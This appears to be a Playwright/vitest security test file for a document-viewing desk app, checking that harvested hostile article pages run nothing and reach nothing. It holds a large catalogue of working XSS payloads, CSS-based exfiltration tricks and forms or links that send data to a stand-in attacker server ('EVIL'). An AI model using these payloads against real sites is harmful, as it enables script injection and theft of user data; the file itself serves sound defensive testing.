/**
 * Hostile pages in the frame, harvested from a hostile site: they run nothing and reach nothing. Asserted from the
 * browser's side: requests seen, dialogs, titles, cookies, pages opened.
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, Page as Tab } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { downloadIssue } from '../../src/io/download-issue.js'
import { draftArticles } from '../../src/io/draft-issue.js'
import { draftDropped } from '../../src/io/dropped-files.js'
import { openStore, type Store, type StoredArticle } from '../../src/io/index.js'
import { type ServedDesk, serveDesk } from '../../src/server/main.js'
import { deskMeans } from '../../src/server/means.js'
import { onePerson } from '../../src/server/people.js'
import { storeDesk } from '../../src/server/store-desk.js'
import { openBrowser } from '../support/desk-browser.js'
import { type SiteServer, serveAnswers } from '../support/site-server.js'

const EVIL =
  'top.hacked=1;window.hacked=1;document.title="hacked";document.cookie="hacked=1";alert("hacked");fetch("EVIL/fetched")'
/** What each page tries, in its head and its body; EVIL is the attacker's server. */
const ATTACKS: Readonly<Record<string, readonly [head: string, body: string]>> = {
  scripts: [
    `<script>${EVIL}</script><script src="EVIL/s.js"></script><script type="module" src="EVIL/m.js"></script>`,
    `<img src="x" onerror='${EVIL}'><body onload='${EVIL}'><details open ontoggle='${EVIL}'><input autofocus onfocus='${EVIL}'>
     <iframe srcdoc="&lt;script&gt;parent.top.hacked=1&lt;/script&gt;"></iframe><object data="EVIL/o"></object><embed src="EVIL/e">
     <video src="EVIL/v" onerror='${EVIL}'></video><template><script>${EVIL}</script></template>`,
  ],
  forms: [
    '',
    `<form action="EVIL/form" method="post" id="f"><input name="q" value="secret"><input type="submit" id="submit" value="Go">
     <button formaction="EVIL/button" id="button">Go on</button><input type="image" src="EVIL/image" alt="x"></form>
     <input form="f" type="submit" formaction="javascript:${encodeURIComponent(EVIL)}" id="outside">`,
  ],
  navigation: [
    '<base href="EVIL/" target="_top"><meta http-equiv="refresh" content="0;url=EVIL/refreshed"><meta http-equiv="set-cookie" content="hacked=1">',
    '<a href="EVIL/top" target="_top" id="top">more</a><a href="EVIL/new" target="_blank" id="new">more</a><frameset><frame src="EVIL/frame"></frameset>',
  ],
  styles: [
    `<link rel="stylesheet" href="EVIL/l.css"><link rel="prefetch" href="EVIL/pf"><link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL">
     <link rel="icon" href="EVIL/icon"><link rel="modulepreload" href="EVIL/mp">
     <style>@import url("EVIL/i.css"); @\\69mport "EVIL/i2.css"; @font-face { font-family: f; src: url(EVIL/f.woff) } body { font-family: f }
     body { background: url(EVIL/b) } p { background: u\\72l(EVIL/escaped) } h1 { background: image-set("EVIL/set" 1x) } li { list-style-image: url('EVIL/li') }
     input[value^=s] { background: url(EVIL/value-s) } h1::after { content: url(EVIL/after) } a { cursor: url(EVIL/cursor), auto }</style>`,
    '<p style="background:url(EVIL/attribute)">x</p><p style="background:\\75rl(EVIL/a2)">y</p><input value="secret"><table background="EVIL/table"><tr><td>z</table>',
  ],
  svg: [
    '',
    `<svg onload='${EVIL}'><script>${EVIL}</script><use href="EVIL/use#x"/><image href="EVIL/image"/><foreignObject><iframe src="EVIL/fo"></iframe></foreignObject>
     <a xlink:href="javascript:${encodeURIComponent(EVIL)}"><text id="svg-link">x</text></a><set attributeName="onmouseover" to='${EVIL}'/></svg>
     <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${EVIL}'&gt;"></table></mtext></math>
     <svg></p><style><a id="</style><img src=1 onerror='${EVIL}'>"></svg><noscript><p title="</noscript><img src=x onerror='${EVIL}'>"></noscript>`,
  ],
  urls: [
    '',
    `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='top.hacked=1'/%3E"><iframe src="data:text/html,<script>top.hacked=1</script>"></iframe>
     <iframe src="javascript:top.hacked=1"></iframe><a href="javascript:top.hacked=1" id="js">x</a><a href=" java&#9;script:top.hacked=1" id="js2">y</a>
     <a href="data:text/html,<script>top.hacked=1</script>" id="data">z</a><img src="EVIL/img" srcset="EVIL/2x 2x"><picture><source srcset="EVIL/src"><img></picture>
     <img src="//EVILHOST/scheme-less"><area href="javascript:top.hacked=1"><bgsound src="EVIL/bg"><input type="image" src="EVIL/ii">`,
  ],
}
const MORE: typeof ATTACKS = {
  embedding: [
    `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><meta http-equiv="x-dns-prefetch-control" content="on">
     <meta name="referrer" content="unsafe-url"><link rel="preload" as="script" href="EVIL/pl"><link rel="manifest" href="EVIL/manifest">
     <link rel="alternate stylesheet" href="EVIL/alt.css"><link rel="prerender" href="EVIL/pr"><link rel="search" href="EVIL/os">
     <script type="speculationrules">{"prefetch":[{"source":"list","urls":["EVIL/sr"]}]}</script><script type="importmap">{}</script>`,
    `<iframe name="top" srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;script&amp;gt;top.hacked=1&amp;lt;/script&amp;gt;&quot;&gt;&lt;/iframe&gt;"></iframe>
     <object data="data:text/html,<script>top.hacked=1</script>" type="text/html"><embed src="EVIL/e2" type="image/svg+xml"></object>
     <div><template shadowrootmode="open"><script>${EVIL}</script><img src="EVIL/shadow"></template></div><fencedframe></fencedframe>
     <svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><style>@import "EVIL/fo.css"; * { background: url(EVIL/fo) }</style>
     <iframe srcdoc="x"></iframe><form action="EVIL/fof"><button id="svg-form">x</button></form></body></foreignObject><feImage href="EVIL/fe"/></svg>
     <video poster="EVIL/poster" autoplay></video><audio src="EVIL/audio" autoplay></audio><track src="EVIL/track">`,
  ],
  links: [
    '<base target="_parent">',
    `<a href="EVIL/ping" ping="EVIL/pinged" id="ping">x</a><a href="EVIL/file" download="x.html" id="download">x</a>
     <a href="data:application/octet-stream,x" download="x.exe" id="download2">x</a><a href="EVIL/parent" target="_parent" id="parent">x</a>
     <img usemap="#m" src="EVIL/map"><map name="m"><area shape="default" href="EVIL/area" target="_top" id="area"></map>
     <a href="EVIL/opener" target="webmars" rel="opener" id="opener">x</a><a href="vbscript:x" id="vb">x</a><a href="blob:EVIL/1" id="blob">x</a>
     <button popovertarget="pop" id="pops" formaction="EVIL/pop">x</button><div popover id="pop" onbeforetoggle='${EVIL}'>y</div>
     <p draggable="true" ondragstart='${EVIL}' id="dragged">Drag <a href="EVIL/dragged">this link</a></p><div contenteditable onfocus='${EVIL}' autofocus>z</div>`,
  ],
  exfiltration: [
    `<style>@import/**/url("EVIL/x1.css");@IMPORT 'EVIL/x2.css';@charset "utf-8";@namespace url(EVIL/ns);
     @font-face { font-family: leak; src: local("none"), url("EVIL/font?a"); unicode-range: U+61 } @font-face { font-family: l2; src:url(EVIL/f2)format("woff2") }
     [data-node="1"] { background: url(EVIL/node1) } [data-text] { --x: url(EVIL/var); background-image: var(--x) } *{font-family:leak,l2}
     :root { background: cross-fade(url(EVIL/cf), url(EVIL/cf2), 50%) } p::before { content: url('EVIL/a)b') } li { list-style: url(EVIL/ls) }
     h1 { mask: url(EVIL/mask#m); filter: url(EVIL/filter#f); clip-path: url(EVIL/clip#c); shape-outside: url(EVIL/shape); border-image: url(EVIL/bi) 1 }
     @supports (background: url(EVIL/sup)) { p { background: src("EVIL/src") } } @layer a { p { offset-path: url(EVIL/path) } }
     @property --p { syntax: "<url>"; inherits: true; initial-value: url(EVIL/prop) } @keyframes k { to { background: url(EVIL/key) } } p { animation: k 1ms }
     html::-webkit-scrollbar { background: url(EVIL/sb) } ::selection { background: url(EVIL/sel) } ::marker { content: url(EVIL/mk) }</style>`,
    `<p style="background:u\\72
l(EVIL/broken)">a</p><p style="--y:url(EVIL/inline);background:var(--y)">b</p><p id="webmars-style" title="taken">c</p><input type="password" value="secret"><ul><li>d</ul>`,
  ],
}
const PAGES = { ...ATTACKS, ...MORE }
const NAMES = Object.keys(PAGES)
/** The number of the article of 10 MB. */
const LARGE = NAMES.length
const INJECTED = '<img src=x onerror=alert(1)><script>top.hacked=1</script><svg onload=alert(2)>'
/** For a machine that does much else. */
const PATIENCE = 120_000
let evil: SiteServer
let site: SiteServer
let data: string
let store: Store
let desk: ServedDesk
let browser: Browser
let tab: Tab
let articles: StoredArticle[]
const seen: string[] = []

const escaped = (text: string): string =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')

const title = (i: number): string => `Invented finding number ${i} about the ${NAMES[i] ?? 'large'} of tidal pools`

function articlePage(i: number): string {
  const [head, body] = PAGES[NAMES[i] ?? ''] ?? ['', `<p>${'and on it goes, '.repeat(163)}</p>`.repeat(4000)]
  const named = i === 0 ? `${title(i)} ${INJECTED}` : title(i)
  const author = i === 0 ? `Ann ${INJECTED} Doe` : 'Ann Doe'
  const html = `<!DOCTYPE html><html><head><title>${escaped(named)}</title>
    <meta name="citation_title" content="${escaped(named)}"><meta name="citation_author" content="${escaped(author)}">
    <meta name="citation_journal_title" content="Annals of Invention"><meta name="citation_volume" content="7">
    <meta name="citation_publication_date" content="2026/01/01"><meta name="citation_firstpage" content="${i * 10 + 1}">${head}</head>
    <body><h1>${escaped(named)}</h1><p class="authors">${escaped(author)}</p><h2>Abstract</h2>
    <p>We invented what we looked for and then found it where we had put it, which is a result of some use to nobody at all.</p>${body}</body></html>`
  return html.replaceAll('EVILHOST', evil.url.slice('http://'.length)).replaceAll('EVIL', evil.url)
}

function issuePage(numbers: readonly number[]): string {
  const entries = numbers.map(
    i => `<li class="article"><h3><a href="/article/${i}">${title(i)}</a></h3><p class="authors">Ann Doe</p>
      <p>pages ${i * 10 + 1}-${i * 10 + 9}</p><a href="/article/${i}">Abstract</a></li>`,
  )
  return `<title>Annals of Invention, volume 7, issue 1</title><h1>Annals of Invention</h1><h2>Volume 7, Issue 1, January 2026</h2><ul>${entries.join('')}</ul>`
}

beforeAll(async () => {
  evil = await serveAnswers((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('got you'))
  site = await serveAnswers((request, response) => {
    const article = /^\/article\/(\d+)$/.exec(request.url ?? '')
    const html = article === null ? issuePage(NAMES.map((_, i) => i)) : articlePage(Number(article[1]))
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html)
  })
  data = mkdtempSync(join(tmpdir(), 'webmars-hostile-'))
  store = await openStore({ data })
  articles = await harvested()
  desk = await serveDesk({
    desk: storeDesk(deskMeans({ store, data, allowPrivate: true })),
    port: 0,
    people: onePerson(store),
  })
  browser = await openBrowser()
  tab = await watched(browser)
  await tab.goto(desk.url)
  evil.requests.clear()
}, PATIENCE)

afterAll(async () => {
  await browser?.close()
  await desk?.close()
  await Promise.all([site?.close(), evil?.close(), store?.close()])
  rmSync(data, { recursive: true, force: true })
})

/** The drafted articles of the issue. */
async function harvested(): Promise<StoredArticle[]> {
  const http = { allowPrivate: true, delay: 0 }
  const done = await downloadIssue(`${site.url}/issue`, { store, data, http, render: 'never' })
  for await (const _ of draftArticles(done.articles, { store, data, render: 'never', renderer: null }));
  return (await store.listArticles({ harvest: done.report.harvest })).filter(({ state }) => state === 'drafted')
}

/** Everything that should not happen is written down. */
async function watched(of: Browser): Promise<Tab> {
  const context = await of.newContext({ viewport: { width: 1280, height: 900 } })
  const page = await context.newPage()
  await page.addInitScript(`window.heard = []; addEventListener('message', event => heard.push(event.data))`)
  context.on('page', opened => seen.push(`opened ${opened.url()}`))
  page.on('dialog', dialog => {
    seen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('download', download => seen.push(`download ${download.url()}`))
  context.on('request', request => {
    const { origin, protocol } = new URL(request.url())
    if (origin !== new URL(desk.url).origin && protocol !== 'data:') seen.push(`request ${request.url()}`)
  })
  return page
}

async function show(i: number): Promise<void> {
  const article = articles.find(each => each.files.some(({ url }) => url.endsWith(`/${i}`)))
  expect(article, `article ${i} was harvested and drafted`).toBeDefined()
  await tab.evaluate(`location.hash = '#/record/${article!.id}'`)
  const frame = tab.frameLocator('iframe')
  await frame.locator('h1').first().waitFor({ timeout: PATIENCE })
  expect(await frame.locator('h1').first().textContent()).toContain(`Invented finding number ${i}`)
}

/** Nothing ran, nothing was reached, nobody went anywhere. */
async function unharmed(): Promise<void> {
  await tab.waitForTimeout(150)
  expect([...evil.requests.keys()]).toEqual([])
  expect(seen.splice(0)).toEqual([])
  expect(await tab.evaluate('window.hacked')).toBeUndefined()
  expect(await tab.evaluate('window.heard')).toEqual([])
  expect(await tab.evaluate('window.name')).toBe('')
  expect(tab.frames().filter(each => (each.parentFrame()?.parentFrame() ?? null) !== null)).toEqual([])
  expect(new URL(tab.url()).origin).toBe(new URL(desk.url).origin)
  expect(await tab.title()).not.toBe('hacked')
  expect(await tab.context().cookies()).toEqual([])
}

const CLICKED = (
  'submit button outside top new js js2 data svg-link svg-form ' +
  'ping download download2 parent area opener vb blob pops dragged'
).split(' ')

test.each(NAMES.map((name, i) => [name, i] as const))(
  '%s in a page do nothing, looked at and clicked',
  async (_, i) => {
    await show(i)
    await unharmed()
    const frame = tab.frameLocator('iframe')
    for (const id of CLICKED)
      if ((await frame.locator(`#${id}`).count()) > 0) await frame.locator(`#${id}`).dispatchEvent('click')
    for (const element of await frame
      .locator('span[data-link], [data-node]')
      .all()
      .then(all => all.slice(-12)))
      await element.click({ force: true, timeout: 500 }).catch(() => {}) // hidden ones cannot be clicked
    await unharmed()
  },
  PATIENCE,
)

test(
  'what is dragged onto the desk, out of the page or from elsewhere, leads nowhere',
  async () => {
    await show(NAMES.indexOf('links'))
    // Nothing in the page can be picked up as a link or by its own wish ...
    const draggable = `document.querySelector('iframe').contentDocument.querySelectorAll('[href], [draggable], [src^=http]')`
    expect(await tab.evaluate(`${draggable}.length`)).toBe(0)
    // ... and what is let fall on the desk, a file or a link of another window, is not opened in its place.
    await tab.evaluate(`(() => {
      const file = new DataTransfer()
      file.items.add(new File(['<script>1</script>'], 'x.html', { type: 'text/html' }))
      const link = new DataTransfer()
      link.setData('text/uri-list', 'http://evil.example/')
      for (const dataTransfer of [file, link])
        for (const name of ['dragover', 'drop'])
          for (const goal of ['header', 'main h1']) {
            const event = new DragEvent(name, { dataTransfer, bubbles: true, cancelable: true })
            document.querySelector(goal).dispatchEvent(event)
            if (!event.defaultPrevented) heard.push(name + ' on ' + goal + ' is left to the browser')
          }
    })()`)
    await unharmed()
    await tab.locator('#field-title textarea').waitFor()
  },
  PATIENCE,
)

/** The marks of the desk are its own, whatever ids and attributes a page has. */
test('a page cannot take the place of the desk’s outlines', async () => {
  await show(NAMES.indexOf('exfiltration'))
  await tab.locator('#field-title').focus()
  const frame = tab.frameLocator('iframe')
  await frame.locator('[data-webmars-active]').first().waitFor()
  const outline = await tab.evaluate(
    `getComputedStyle(document.querySelector('iframe').contentDocument.querySelector('[data-webmars-active]')).outlineStyle`,
  )
  expect(outline).toBe('solid')
})

/** Worse than any page can make it: the markup itself, in every field that people read. */
async function injectEverywhere(article: string): Promise<void> {
  const person = { kind: 'person', given: INJECTED, family: INJECTED, suffix: '', initials: 'A', orcid: null }
  const author = { ...person, email: null, corresponding: false, equalContribution: false, affiliations: [0] }
  const affiliation = { text: INJECTED, department: null, institution: null, city: null, country: null }
  const sections = [{ label: INJECTED.slice(0, 100), category: null, html: INJECTED }]
  const values = {
    title: INJECTED,
    affiliations: [{ ...affiliation, rorCandidates: [] }],
    authors: [author],
    abstract: { sections },
    otherAbstracts: [{ sections, language: 'ger', kind: 'translation' }],
    keywords: [INJECTED],
    references: [{ text: INJECTED, csl: null }],
  }
  const { origin, searchParams } = new URL(desk.url)
  const headers = { 'content-type': 'application/json', 'x-webmars-token': searchParams.get('token')! }
  for (const [field, value] of Object.entries(values)) {
    const body = JSON.stringify({ field, value, operator: INJECTED.slice(0, 80), version: 0 })
    const saved = await fetch(`${origin}/api/articles/${article}/edits`, { method: 'POST', headers, body })
    expect([field, saved.status]).toEqual([field, 200])
  }
}

/** A publication list that tries all of it, its records full of markup. */
async function hostileList(): Promise<string> {
  const [heads, bodies] = [0, 1].map(part => Object.values(PAGES).map(attack => attack[part]))
  const records = [1, 2, 3].map(
    i =>
      `<li>Doe A, Roe B. ${escaped(INJECTED)} Invented finding ${i} about tidal pools. J Invent Ecol. 201${i};12(3):45-5${i}.</li>`,
  )
  const html = `<head>${heads!.join('')}</head><h1>Publications</h1><ol>${records.join('')}</ol>${bodies!.join('')}`
  const file = { name: 'list.html', bytes: Buffer.from(html.replaceAll('EVIL', evil.url)) }
  return (await deskMeans({ store, data, allowPrivate: true }).readListFile(file)).id
}

test(
  'HTML in titles and names is text on every page of the desk',
  async () => {
    const [harvest] = await store.listHarvests()
    const article = articles[0]!.id
    await injectEverywhere(article)
    const list = await hostileList()
    const places = [`issue/${harvest!.id}`, `record/${article}`, `export/${harvest!.id}`, 'statistics', '', 'lists']
    for (const place of [...places, `list/${list}`, `export-list/${list}`, 'journals']) {
      await tab.evaluate(`location.hash = '#/${place}'`)
      await tab.locator('main h1').first().waitFor()
      await tab.waitForTimeout(300) // what was injected would have run by then
      expect(await tab.locator('body img[src=x], #content script, body svg[onload]').count(), place).toBe(0)
      await unharmed()
    }
    await tab.evaluate(`location.hash = '#/issue/${harvest!.id}'`)
    await tab.getByText('onerror=alert(1)').first().waitFor({ timeout: 10_000 })
    const exported = `${new URL(desk.url).origin}/api/harvests/${harvest!.id}/export?format=html&drafts=true`
    const { text } = (await (await fetch(exported)).json()) as { text: string }
    expect(text).not.toMatch(/<script|<img|<svg/i)
  },
  PATIENCE,
)

test(
  'a foreign page opened by itself, outside the frame, is as harmless',
  async () => {
    const other = await watched(browser)
    for (const { files } of articles) {
      await other.goto(`${new URL(desk.url).origin}/pages/${files[0]!.sha256}`)
      expect(await other.title()).not.toBe('hacked')
    }
    await other.waitForTimeout(300)
    expect(seen).toEqual([])
    expect([...evil.requests.keys()]).toEqual([])
    await other.context().close()
  },
  PATIENCE,
)

test(
  'a page of 10 MB is shown, and the desk stays alive',
  async () => {
    const file = { name: String(LARGE), bytes: Buffer.from(articlePage(LARGE)) }
    expect(file.bytes.length).toBeGreaterThan(10_000_000)
    const means = { store, data, render: 'never' as const, renderer: null }
    const { harvest } = await draftDropped([file], '2026-02-02T00:00:00.000Z', means)
    articles = await store.listArticles({ harvest: harvest! })
    await show(LARGE)
    await unharmed()
    await tab.locator('#field-title').waitFor()
  },
  PATIENCE,
)

test(
  'the watch itself works: the same page without the desk does harm',
  async () => {
    const other = await watched(browser)
    await other.goto(`${site.url}/article/0`)
    await expect.poll(() => seen.filter(each => each.startsWith('dialog')).length).toBeGreaterThan(0)
    expect(evil.requests.size).toBeGreaterThan(0)
    await other.context().close()
  },
  PATIENCE,
)
